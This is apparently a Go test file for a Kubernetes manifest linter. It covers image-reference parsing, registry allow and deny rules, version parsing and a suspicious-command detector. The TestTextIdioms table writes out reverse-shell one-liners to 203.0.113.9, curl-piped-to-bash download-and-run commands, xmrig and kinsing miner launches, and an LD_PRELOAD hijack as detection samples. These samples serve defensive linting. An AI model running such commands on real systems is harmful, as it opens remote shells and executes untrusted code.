package rules

import (
	"slices"
	"strings"
	"testing"

	"github.com/seaworthy-lint/seaworthy/lint"
	"github.com/seaworthy-lint/seaworthy/lint/linttest"
)

const (
	hex64  = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	sha256 = "sha256:" + hex64
	sha512 = "sha512:" + hex64 + hex64
)

func TestParseImage(t *testing.T) {
	for text, want := range map[string]imageReference{
		"nginx":                                {Repository: "nginx"},
		"nginx:1.29":                           {Repository: "nginx", Tag: "1.29"},
		"team/web":                             {Repository: "team/web"},
		"localhost/web:1":                      {Registry: "localhost", Repository: "web", Tag: "1"},
		"localhost:5000/web":                   {Registry: "localhost:5000", Repository: "web"},
		"host:5000/web":                        {Registry: "host:5000", Repository: "web"},
		"host:5000":                            {Repository: "host", Tag: "5000"},
		"registry.example.com/a/b:c":           {Registry: "registry.example.com", Repository: "a/b", Tag: "c"},
		"registry.example.com:443/a@" + sha256: {Registry: "registry.example.com:443", Repository: "a", Digest: sha256},
		"a:1@" + sha512:                        {Repository: "a", Tag: "1", Digest: sha512},
		"[::1]:5000/web":                       {Registry: "[::1]:5000", Repository: "web"},
		"10.0.0.1/a--b__c.d":                   {Registry: "10.0.0.1", Repository: "a--b__c.d"},
	} {
		if got, ok := parseImage(text); !ok || got != want {
			t.Errorf("parseImage(%q) = %+v, %t; want %+v", text, got, ok, want)
		}
	}
	for _, text := range []string{
		"", " nginx", "nginx ", "Nginx", "nginx:", "nginx:-x", "nginx@", "a:b:c", "/web", "host:5000/", "a//b", "-a", "a_", "a___b",
		"nginx@sha256:abc", "nginx@sha256:" + strings.ToUpper(hex64), "nginx@md5:" + hex64, "nginx@" + sha256 + ":1", "https://example.com/web",
		"re_gistry.example.com/web", "nginx:" + strings.Repeat("x", 129), strings.Repeat("x", 256), "<image>",
	} {
		if got, ok := parseImage(text); ok {
			t.Errorf("parseImage(%q) = %+v; want none", text, got)
		}
	}
}

func TestImageName(t *testing.T) {
	for text, want := range map[string]string{
		"nginx:1":                   "docker.io/library/nginx",
		"team/web":                  "docker.io/team/web",
		"docker.io/nginx":           "docker.io/library/nginx",
		"index.docker.io/team/web":  "docker.io/team/web",
		"Registry.example.com/a/b":  "registry.example.com/a/b",
		"registry.example.com:80/a": "registry.example.com:80/a",
	} {
		ref, ok := parseImage(text)
		if got := ref.name(); !ok || got != want {
			t.Errorf("%q is %q; want %q", text, got, want)
		}
	}
}

func TestPlainRegistry(t *testing.T) {
	for registry, want := range map[string]bool{
		"": false, "registry.example.com": false, "registry.example.com:8080": false, "localhost:80": false, "127.0.0.1": false,
		"[::1]:80": false, "registry.localhost:80": false,
		"registry.example.com:80": true, "10.0.0.5": true, "10.0.0.5:5000": true, "[fd00::5]:5000": true, "192.0.2.1:443": true,
	} {
		if got := plainRegistry(registry) != ""; got != want {
			t.Errorf("plainRegistry(%q) is %t", registry, got)
		}
	}
}

func TestParseVersion(t *testing.T) {
	for tag, want := range map[string]imageVersion{
		"v1.11.5": {1, 11, 5}, "0.49.0": {0, 49, 0}, "1.8.3-debian-11-r0": {1, 8, 3}, "v1.12.0-beta.0": {1, 12, 0}, "9.2.3_x": {9, 2, 3},
	} {
		if got, ok := parseVersion(tag); !ok || got != want {
			t.Errorf("parseVersion(%q) = %v, %t", tag, got, ok)
		}
	}
	for _, tag := range []string{"", "latest", "1", "1.2", "1.2.x", "1.2.3.4", "v", "1..3"} {
		if got, ok := parseVersion(tag); ok {
			t.Errorf("parseVersion(%q) = %v; want none", tag, got)
		}
	}
	if !(imageVersion{1, 9, 9}).before(imageVersion{1, 10, 0}) {
		t.Error("1.9.9 is older than 1.10.0")
	}
}

// TestImageParams gives rules other parameters than their defaults.
func TestImageParams(t *testing.T) {
	for name, test := range map[string]struct {
		rule   string
		params any
		image  string
		want   int
	}{
		"allowed":          {"image-registry-untrusted", &registryParams{Allowed: []string{"registry.example.com"}}, "registry.example.com/team/web:1", 0},
		"allowed glob":     {"image-registry-untrusted", &registryParams{Allowed: []string{"*.example.com/team/*"}}, "eu.example.com/team/web:1", 0},
		"official":         {"image-registry-untrusted", &registryParams{Allowed: []string{"docker.io/library"}}, "nginx", 0},
		"not official":     {"image-registry-untrusted", &registryParams{Allowed: []string{"docker.io/library"}}, "team/nginx", 1},
		"longer host":      {"image-registry-untrusted", &registryParams{Allowed: []string{"registry.example.com"}}, "registry.example.com.evil.test/web", 1},
		"denied":           {"image-registry-untrusted", &registryParams{Denied: []string{"docker.io/**"}}, "team/web", 1},
		"denied wins":      {"image-registry-untrusted", &registryParams{Allowed: []string{"docker.io"}, Denied: []string{"docker.io/team"}}, "team/web", 1},
		"not denied":       {"image-registry-untrusted", &registryParams{Denied: []string{"docker.io/**"}}, "quay.io/team/web", 0},
		"templated tag":    {"image-registry-untrusted", &registryParams{Allowed: []string{"quay.io"}}, "team/web:${TAG}", 1},
		"exempt":           {"image-digest-missing", &digestParams{ExemptRepositories: []string{"registry.example.com/base/*"}}, "registry.example.com/base/web:1", 0},
		"not exempt":       {"image-digest-missing", &digestParams{ExemptRepositories: []string{"registry.example.com/base/*"}}, "registry.example.com/other/web:1", 1},
		"own floating tag": {"image-tag-latest", &floatingTagParams{Tags: []string{"beta"}}, "web:beta", 1},
		"other tags":       {"image-tag-latest", &floatingTagParams{Tags: []string{"beta"}}, "web:latest", 0},
		"moved":            {"image-registry-deprecated", &movedRegistryParams{Moved: map[string]string{"docker.io/jettech": "registry.k8s.io/ingress-nginx"}}, "jettech/kube-webhook-certgen:v1.5.2", 1},
		"not moved":        {"image-registry-deprecated", &movedRegistryParams{Moved: map[string]string{"docker.io/jettech": "registry.k8s.io/ingress-nginx"}}, "jettechnology/web:1", 0},
	} {
		t.Run(name, func(t *testing.T) {
			rule := *lint.Find(All(), test.rule)[0]
			rule.Params = test.params
			pod := "{apiVersion: v1, kind: Pod, metadata: {name: web}, spec: {containers: [{name: web, image: \"" + test.image + "\"}]}}"
			report := linttest.Check(t, linttest.Load(t, "pod.yaml", []byte(pod)), lint.Options{Rules: []*lint.Rule{&rule}})
			if len(report.Findings) != test.want {
				t.Errorf("%s: %d findings, want %d", test.image, len(report.Findings), test.want)
			}
		})
	}
}

func TestTextIdioms(t *testing.T) {
	for text, want := range map[string]string{
		"./xmrig-6.21/xmrig -o pool:3333":                                       coinMiner,
		"nohup /tmp/kinsing &":                                                  coinMiner,
		"wget https://example.com/xmrig/xmrig/releases/xmrig.tgz":               coinMiner,
		"bash -i >& /dev/tcp/203.0.113.9/443 0>&1":                              reverseShell,
		"0<&196;exec 196<>/dev/tcp/203.0.113.9/443; sh <&196 >&196 2>&196":      "",
		"ncat --ssl $HOST $PORT -e /bin/bash;":                                  reverseShell,
		"nc -lvp 4444 --sh-exec=/bin/sh":                                        reverseShell,
		"python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'": reverseShell,
		"socat TCP:203.0.113.9:443 EXEC:'bash -li',pty":                         reverseShell,
		"curl -s x|sh":                                                      runsDownload,
		"curl -s x | tee log | bash":                                        runsDownload,
		"curl -s x |\n  bash -eu":                                           runsDownload,
		"eval \"$(curl -fsSL https://example.com/x)\"":                      runsDownload,
		"source <(curl -s https://example.com/x)":                           runsDownload,
		"`wget -qO- https://example.com/x`":                                 runsDownload,
		"bash -c 'curl -s x | bash'":                                        runsDownload,
		"cd /tmp && curl -LO https://example.com/tool && chmod 0755 ./tool": runsDownload,
		"curl -sL https://example.com/x?raw=1 > /opt/x && chmod a+x /opt/x": runsDownload,
		"LD_PRELOAD=/tmp/x.so app":                                          replacedHelper,
		"curl -s x -o y":                                                    "",
		"curl -s x | jq . | grep bash":                                      "",
		"curl -s x | python3 -m json.tool":                                  "",
		"curl -s x | sh -c 'cat'":                                           "",
		"curl -s x | bash ./parse.sh":                                       "",
		"curl -s x; sh run.sh":                                              "",
		"curl -s x || bash fallback.sh":                                     "",
		"sh -c 'app' -- \"$(curl -s x)\"":                                   "",
		"app \"$(curl -s x)\"":                                              "",
		"wget https://example.com/x -O /data/x && chmod 644 /data/x":        "",
		"# curl x | sh":                                                     "",
		"echo \"curl x | sh\"":                                              "",
		"nc -z db 5432 && nc -w 1 host 80 -c":                               "",
		"timeout 1 bash -c '</dev/tcp/db/5432'":                             "",
		"socat TCP-LISTEN:80,fork TCP:web:80":                               "",
		"unclosed 'quote $( and \\":                                         "",
	} {
		got := textIdioms(text)
		if want == "" && len(got) > 0 || want != "" && !slices.Contains(got, want) {
			t.Errorf("%q shows %q; want %q", text, got, want)
		}
	}
}

// TestCommandsStayUnseen keeps what commands and variables hold, which may be
// secret, out of all that is printed.
func TestCommandsStayUnseen(t *testing.T) {
	rule := lint.Find(All(), "suspicious-command")[0]
	pod := `{apiVersion: v1, kind: Pod, metadata: {name: web}, spec: {containers: [{name: web, image: web:1,
  command: [sh, -c, "curl -u hunter2: x | sh"], args: [-o, "stratum+tcp://hunter2@pool"], env: [{name: A, value: "stratum+tcp://hunter2@pool"}]}]}}
`
	report := linttest.Check(t, linttest.Load(t, "pod.yaml", []byte(pod)), lint.Options{Rules: []*lint.Rule{rule}})
	if len(report.Findings) != 3 {
		t.Errorf("%d findings, want 3", len(report.Findings))
	}
	for _, f := range report.Findings {
		if strings.Contains(f.Message+f.Value+f.Field, "hunter2") {
			t.Errorf("the finding tells what the command holds: %+v", f)
		}
	}
}

// TestPullPolicySeverity is more severe where the tag floats.
func TestPullPolicySeverity(t *testing.T) {
	rule := lint.Find(All(), "image-pull-policy")[0]
	for tag, want := range map[string]lint.Severity{"1.2.3": lint.Low, "stable": lint.Medium} {
		pod := "{apiVersion: v1, kind: Pod, metadata: {name: web}, spec: {containers: [{name: web, image: 'web:" + tag + "', imagePullPolicy: IfNotPresent}]}}"
		report := linttest.Check(t, linttest.Load(t, "pod.yaml", []byte(pod)), lint.Options{Rules: []*lint.Rule{rule}})
		if len(report.Findings) != 1 || report.Findings[0].Severity != want {
			t.Errorf("tag %s: %+v", tag, report.Findings)
		}
	}
}
